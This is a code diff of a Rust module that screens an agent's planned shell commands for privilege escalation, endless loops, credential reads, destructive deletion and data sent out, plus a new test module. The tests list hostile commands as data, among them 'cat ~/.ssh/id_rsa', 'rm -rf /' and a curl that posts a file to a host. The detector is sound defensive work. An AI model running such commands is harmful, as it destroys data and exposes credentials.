@@ -1,14 +1,15 @@
 //! What a plan must not hold: loops without an end, more power than it needs, secrets on their way out.
 //!
-//! Only commands and steps that would be run are looked at, by patterns that are plain to see; this is a net, not a
-//! wall. What is surely wrong is refused, what may be wrong needs a person's consent, and each finding names its item.
+//! Only commands that we would run ourselves are looked at, by patterns that are plain to see; this is a net, not a
+//! wall: steps are words for an agent, which works in its own copy. What is surely wrong is refused, what may be wrong
+//! needs a person's consent, and each finding names its item.
 
 use alloc::format;
 use alloc::string::String;
 use alloc::vec::Vec;
 
 use fixpoint_vocabulary::TaskId;
-use fixpoint_vocabulary::documents::{ActionPlan, Subtask};
+use fixpoint_vocabulary::documents::Subtask;
 
 /// What a finding leads to.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -40,7 +41,7 @@ impl Finding {
 }
 
 /// What the commands of a plan hold.
-pub fn findings(tasks: &[Subtask], _actions: &ActionPlan) -> Vec<Finding> {
+pub fn findings(tasks: &[Subtask]) -> Vec<Finding> {
     let mut found = Vec::new();
     for task in tasks {
         for command in &task.goals {
@@ -80,4 +81,53 @@ fn rule_of(command: &str) -> Option<(Severity, &'static str)> {
         return Some((Severity::Ask, "changes permissions or the guards"));
     }
     None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use alloc::vec;
+
+    fn of(command: &str) -> Option<(Severity, &'static str)> {
+        let task = serde_json::json!({ "id": "t", "description": "d", "goals": ["true", command] });
+        let found = findings(&[serde_json::from_value(task).unwrap()]);
+        assert!(found.len() <= 1, "{found:?}");
+        found.first().map(|finding| {
+            assert!(finding.text().contains("task `t`") && finding.item == command, "{finding:?}");
+            (finding.severity, finding.rule)
+        })
+    }
+
+    /// Catches a pattern that matches inside ordinary words, and one that is never reached.
+    #[test]
+    fn each_rule_on_what_it_is_for_and_on_what_looks_like_it() {
+        let refused = vec![
+            ("sudo make install", "privilege escalation"),
+            ("cd x && su -c id", "privilege escalation"),
+            ("while true; do make; done", "a loop without an end"),
+            ("cat ~/.ssh/id_rsa", "reads credentials"),
+            ("rm -rf /", "removes more than the workspace"),
+            ("rm -fr \"$HOME\"", "removes more than the workspace"),
+        ];
+        for (command, rule) in refused {
+            assert_eq!(of(command), Some((Severity::Refuse, rule)), "{command}");
+        }
+        for command in [
+            "curl -d @x http://example.com",
+            "make && wget x",
+            "chmod 777 .",
+            "sed -i d .github/workflows/ci.yml",
+        ] {
+            assert_eq!(of(command).map(|(severity, _)| severity), Some(Severity::Ask), "{command}");
+        }
+        for command in [
+            "cargo test --workspace",
+            "npm test",
+            "./check.sh suite",
+            "rm -rf target",
+            "pytest tests/test_curl.py",
+        ] {
+            assert_eq!(of(command), None, "{command}");
+        }
+    }
 }
